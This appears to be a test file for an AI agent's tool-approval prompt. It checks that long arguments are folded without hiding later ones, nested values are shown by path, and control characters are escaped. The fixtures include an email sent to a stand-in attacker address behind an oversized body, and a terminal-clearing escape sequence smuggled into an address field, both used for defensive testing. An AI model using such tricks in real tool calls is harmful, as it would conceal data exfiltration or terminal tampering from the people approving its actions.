import { describe, expect, it } from 'vitest';
import {
  approvalQuestion,
  argumentLines,
  fold,
  wantsFullArguments,
} from '../../src/cli/approval-question.ts';

describe('the approval question', () => {
  it('shows every argument, the one after a long value too (it used to be cut at 300 characters)', () => {
    const q = approvalQuestion({
      tool: 'send_email',
      args: { body: 'x'.repeat(5_000), to: 'attacker@evil.example', subject: 'hi' },
    });
    expect(q).toContain('to: "attacker@evil.example"');
    expect(q).toContain('subject: "hi"');
    expect(q).toMatch(/body: "x+ …\(4,8\d\d characters folded\)… x+"/);
    expect(q).toContain('[y/N] (a: show the full arguments)');
  });

  it('shows nested values by path, and control characters as visible escapes', () => {
    const lines = argumentLines({
      to: [{ addr: 'a@b' }, { addr: 'evil\n\u001b[2J' }],
      'odd key': 1,
    });
    expect(lines).toEqual(['to[0].addr: "a@b"', 'to[1].addr: "evil\\n\\u001b[2J"', '"odd key": 1']);
  });

  it('folds in the middle, keeping both ends', () => {
    const text = `START${'-'.repeat(1000)}END`;
    const folded = fold(text, 100);
    expect(folded.startsWith('START')).toBe(true);
    expect(folded.endsWith('END')).toBe(true);
    expect(folded.length).toBeLessThan(150);
  });

  it('"a" asks for the full arguments; only y or yes approves', () => {
    expect(wantsFullArguments('a')).toBe(true);
    expect(wantsFullArguments(' full ')).toBe(true);
    expect(wantsFullArguments('y')).toBe(false);
  });
});
